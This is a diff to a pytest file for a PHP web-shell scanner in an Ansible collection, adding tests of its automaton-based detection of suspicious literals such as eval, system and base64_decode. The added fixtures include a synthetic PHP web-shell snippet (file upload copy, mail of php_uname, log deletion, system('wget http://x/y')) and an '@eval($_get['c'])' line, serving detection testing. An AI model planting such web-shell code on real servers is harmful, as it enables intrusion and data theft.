@@ -9,6 +9,8 @@ import binascii
 import random
 import re
 
+import pytest
+
 from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import (
     analyse,
     decode,
@@ -192,14 +194,16 @@ def _look_ups_only(monkeypatch):
 def test_heads_and_literals_found_by_the_automaton_are_what_the_look_ups_find(monkeypatch):
     assert yarascan.literal_finder(("eval",)) is not None  # yara-python is in requirements.txt
     every_head = set(php._AUTOMATON_HEADS) | set(php._SHORT_HEADS)
-    spellings = [php.spelled(literal) for literal in list(php._SPELLED)]
+    spellings = [php.spelled(literal) for literal in list(php._SPELLED) + ["$_", "@", "${"]]  # and short ones
     rnd = random.Random(22)
     for _ in range(1500):
         low = "".join(rnd.choice(HEAD_PIECES) for _ in range(rnd.randint(150, 400)))
-        words = php.words_of(low)
         assert (php._present_in(low) is not None) == (len(low) >= php.AUTOMATON_FROM)  # a short text: looked up
+        words = php.words_of(low)
         by_automaton = (php.heads_in(low), [php.occurs(s, low, words) for s in spellings])
         _look_ups_only(monkeypatch)
+        words = php.words_of(low)
+        assert isinstance(words, str)  # the names themselves, or the short text
         by_look_ups = (php.heads_in(low), [php.occurs(s, low, words) for s in spellings])
         monkeypatch.undo()
         assert by_automaton == by_look_ups, low
@@ -212,12 +216,42 @@ def test_every_head_is_a_literal_the_automaton_looks_for():
     assert {"eval", "'system'", "base64_decode"} <= php._AUTOMATON_HEADS
 
 
+def test_the_names_of_a_text_the_automaton_read_answer_as_the_names_themselves():
+    names = sorted(php._load_automaton()[2])
+    keys = names + ["tv", "zz", "$__", "eval(", "", "\n__", "\n"] + ["\n%s\n" % n for n in names[::7]] \
+        + ["\n%s" % n for n in names[1::7]] + ["%s\n" % n for n in names[2::7]]
+    rnd = random.Random(23)
+    pieces = list(HEAD_PIECES) + names[::5] + [" ", "\n", "(", "$__", "wtmp", "xwtmp", "tv"]
+    for _ in range(300):
+        low = "".join(rnd.choice(pieces) for _ in range(rnd.randint(150, 400)))
+        if len(low) < php.WORDS_FROM:
+            continue
+        answer = php.words_of(low)
+        built = php._names_text(low)
+        assert isinstance(answer, php._Names)
+        assert [key in answer for key in keys] == [key in built for key in keys], low
+
+
+def test_the_names_the_engine_looks_up_are_found_by_the_automaton_without_building_the_names(monkeypatch):
+    asked = set()
+    contains = php._Names.__contains__
+    monkeypatch.setattr(php._Names, "__contains__", lambda self, key: asked.add(key) or contains(self, key))
+    monkeypatch.setattr(php, "_names_text", lambda low: pytest.fail("the names were built"))
+    shell = ("<?php\n" + FILLER + "ignore_user_abort(1); set_time_limit(0); $f = $_FILES['f']['tmp_name'];\n"
+             "copy($f, $_POST['d']); include 'x.ico'; mail($_POST['to'], php_uname(), $_SERVER['HTTP_HOST']);\n"
+             "unlink('/tmp/x.log'); system('wget http://x/y'); echo chr(65).chr(66);\n")
+    analyse.analyse("x.php", shell.encode(), php.THRESHOLD, [])
+    automaton_names = php._load_automaton()[2]
+    assert len(asked) > 30
+    assert {key.strip("\n") for key in asked} - automaton_names <= {"tv"}  # too short for the automaton
+
+
 def test_literals_are_looked_up_one_by_one_where_the_automaton_did_not_read_the_text(monkeypatch):
     low = "<?php " + "x" * 600 + " @eval($_get['c']); system('id');"
     eval_spelling = php.spelled("eval(")
     expected = php.heads_in(low)
     assert {"eval", "system", "$_get", "@"} <= expected and php._present_in(low) is not None
-    for automaton in ([None], [(lambda data: None, frozenset(php._SPELLED))]):  # no yara-python; YARA gave up
+    for automaton in ([None], [(lambda data: None, frozenset(php._SPELLED), frozenset())]):  # none; YARA gave up
         monkeypatch.setattr(php, "_AUTOMATON", automaton)
         monkeypatch.setattr(php, "_LAST_PRESENT", [(None, None)])
         assert php._present_in(low) is None
